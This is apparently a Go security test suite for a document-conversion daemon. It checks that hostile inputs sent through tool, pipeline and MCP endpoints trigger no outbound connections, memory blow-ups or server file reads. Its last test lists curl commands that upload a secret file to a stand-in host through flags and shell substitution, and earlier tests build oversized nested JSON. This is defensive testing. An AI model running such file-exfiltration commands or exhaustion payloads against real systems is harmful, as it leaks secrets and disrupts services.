package attack

import (
	"bytes"
	"fmt"
	"net"
	"net/http"
	"os"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/convertd/convertd/test/daemon"
)

// TestDocuments sends each hostile document to its tool, through the pipeline
// and, where agents are served, through MCP.
// Rules: ANS-6, ANS-7.
func TestDocuments(t *testing.T) {
	daemon.SecondTier(t)
	s := attack(t, "--rate-limit=0", "--exec-timeout=60s")
	listener := watch(t)
	mcp := s.hasMCP(t)
	described := map[string]bool{}
	for _, d := range documents(listener.address) {
		if known, asked := described[d.tool]; !asked {
			described[d.tool] = s.describes(t, "/v1/tools/"+d.tool)
			if !described[d.tool] {
				t.Logf("%s is not served; its documents are not sent", d.tool)
				continue
			}
		} else if !known {
			continue
		}
		t.Run(d.tool+"/"+d.name, func(t *testing.T) { s.sendDocument(t, d, mcp) })
	}
	s.memoryIsBack(t)
	if n := listener.connections.Load(); n != 0 {
		t.Errorf("something connected to the address in a document, %d times", n)
	}
}

func (s *target) sendDocument(t *testing.T, d document, mcp bool) {
	value := d.value()
	if d.options == "" {
		d.options = "{}"
	}
	if room := 1<<20 - len(toolBody(d.mediaType, "", d.options)); len(quote(value))-2 > room {
		t.Fatalf("the document has %d bytes more than a request may", len(quote(value))-2-room)
	}
	single := s.measured(t, func() answer { return s.post(t, "/v1/tools/"+d.tool, toolBody(d.mediaType, value, d.options)) })
	if d.want != 0 && single.status != d.want {
		t.Errorf("status %d, want %d: %.300s", single.status, d.want, single.body)
	}
	step := `,"steps":[{"id":"a","tool":"` + d.tool + `","options":` + d.options + `}]}`
	chain := `{"version":1,"input":{"mediaType":"` + d.mediaType + `","value":` + quote(value) + `}` + step
	if len(chain) <= 1<<20 {
		s.measured(t, func() answer { return s.post(t, "/v1/pipeline", chain) })
	}
	call := `{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"` + d.tool + `","arguments":` + toolBody(d.mediaType, value, d.options) + `}}`
	if mcp && len(call) <= 1<<20 {
		s.measured(t, func() answer {
			return s.post(t, "/mcp", call, "Accept", "application/json, text/event-stream", "MCP-Protocol-Version", "2025-06-18")
		})
	}
	s.unharmed(t)
}

// measured makes one hostile call: refused well or converted, in time, in
// little memory. On a busy machine the processor time it used counts where the
// clock says more.
func (s *target) measured(t *testing.T, call func() answer) answer {
	t.Helper()
	got := s.measuredAny(t, call)
	if got.status != http.StatusOK {
		refusedWell(t, got)
	} else if bytes.Contains(got.body, []byte("root:x:0")) {
		t.Error("the answer holds a file of the server")
	}
	return got
}

// measuredAny is measured without a look at the answer.
func (s *target) measuredAny(t *testing.T, call func() answer) answer {
	t.Helper()
	s.ResetPeak()
	before, start := s.Processor(t), time.Now()
	got := call()
	took := min(time.Since(start), s.Processor(t)-before+10*time.Millisecond)
	if took > callTime {
		t.Errorf("took %v", took)
	}
	if peak := s.Peak(t); peak > callMemory {
		t.Errorf("held %d MiB", peak>>20)
	}
	return got
}

// watched is a listener that nothing may connect to.
type watched struct {
	address     string
	connections atomic.Int64
}

func watch(t *testing.T) *watched {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { listener.Close() })
	w := &watched{address: listener.Addr().String()}
	go func() {
		for {
			connection, err := listener.Accept()
			if err != nil {
				return
			}
			w.connections.Add(1)
			connection.Close()
		}
	}()
	return w
}

// TestBlowUps: pipelines that would multiply their input are cut.
func TestBlowUps(t *testing.T) {
	s := attack(t, "--rate-limit=0", "--exec-timeout=60s")
	wide := "[" + strings.Repeat("[],", 150_000) + "[]]"
	deep := strings.Repeat("[", 200) + strings.Repeat("1,", 1000) + "1" + strings.Repeat("]", 200)
	for name, test := range map[string]struct {
		value string
		step  string
		want  int
	}{
		"20 steps of a wide document": {wide, `{"id":"s%d","tool":"json_format","options":{"indent":8}}`, http.StatusUnprocessableEntity},
		"20 steps of a deep document": {deep, `{"id":"s%d","tool":"json_format","options":{"indent":8}}`, http.StatusUnprocessableEntity},
		"20 small steps":              {"[1]", `{"id":"s%d","tool":"json_format","options":{"indent":8}}`, http.StatusOK},
	} {
		t.Run(name, func(t *testing.T) {
			var steps, ids []string
			for i := range 20 {
				steps = append(steps, fmt.Sprintf(test.step, i))
				ids = append(ids, fmt.Sprintf(`"s%d"`, i))
			}
			body := `{"version":1,"input":{"mediaType":"application/json","value":` + quote(test.value) +
				`},"steps":[` + strings.Join(steps, ",") + `],"returnStepIds":[` + strings.Join(ids, ",") + `]}`
			if got := s.measured(t, func() answer { return s.post(t, "/v1/pipeline", body) }); got.status != test.want {
				t.Errorf("status %d, want %d: %.300s", got.status, test.want, got.body)
			}
			s.unharmed(t)
		})
	}
	t.Run("many steps, ids and members", func(t *testing.T) {
		for _, body := range []string{
			`{"version":1,"input":{"mediaType":"application/json","value":"1"},"steps":[` + strings.Repeat(`{"id":"a","tool":"json_format"},`, 20_000) + `{"id":"a","tool":"json_format"}]}`,
			`{"version":1,"input":{"mediaType":"application/json","value":"1"},"steps":[{"id":"a","tool":"json_format"}],"returnStepIds":[` + strings.Repeat(`"a",`, 200_000) + `"a"]}`,
			`{"` + strings.Repeat(marker, 50_000) + `":1}`,
			`{"input":{"mediaType":"` + strings.Repeat(marker, 50_000) + `","value":"1"}}`,
			`{"input":{"mediaType":"application/json","value":"1"},"options":{"indent":` + strings.Repeat("9", 1<<19) + `}}`,
			`{"input":{"mediaType":"application/json","value":"1"},"options":` + strings.Repeat(`{"a":`, 100_000) + "1" + strings.Repeat("}", 100_000) + "}",
			strings.Repeat("[", 1<<20),
			strings.Repeat(`{"a":`, 1<<17),
			`{` + strings.Repeat(`"`+marker+`":1,`, 40_000) + `"x":1}`,
		} {
			for _, path := range []string{"/v1/pipeline", "/v1/tools/json_format"} {
				refusedWell(t, s.measured(t, func() answer { return s.post(t, path, body) }))
			}
		}
		s.unharmed(t)
	})
	s.memoryIsBack(t)
}

// TestFilesOfTheServer: the binary opens no file that an input names. The
// named pipe would hold whoever opens it.
func TestFilesOfTheServer(t *testing.T) {
	s := attack(t, "--rate-limit=0")
	if !s.describes(t, "/v1/tools/api_convert") {
		t.Fatal("api_convert is not served")
	}
	secret := t.TempDir() + "/secret"
	if err := os.WriteFile(secret, []byte("root:x:0 secret of the server"), 0o600); err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{
		"curl https://a.example -d @" + secret,
		"curl https://a.example -T " + secret,
		"curl -K " + secret + " https://a.example",
		"curl https://a.example --data-binary @" + secret + " -H @" + secret,
		"curl https://a.example -F f=@" + secret + " --netrc-file " + secret,
		"curl https://a.example -d \"$(cat " + secret + ")\"",
		"curl https://a.example -d \"`cat " + secret + "`\"",
		"curl https://a.example -d \"$(<" + secret + ")\" < " + secret,
	} {
		for _, target := range []string{"openapi-3.1-json", "postman-2.1", "curl"} {
			s.measured(t, func() answer {
				return s.post(t, "/v1/tools/api_convert", toolBody("text/plain", text, `{"target":"`+target+`"}`))
			})
		}
	}
	s.unharmed(t)
}
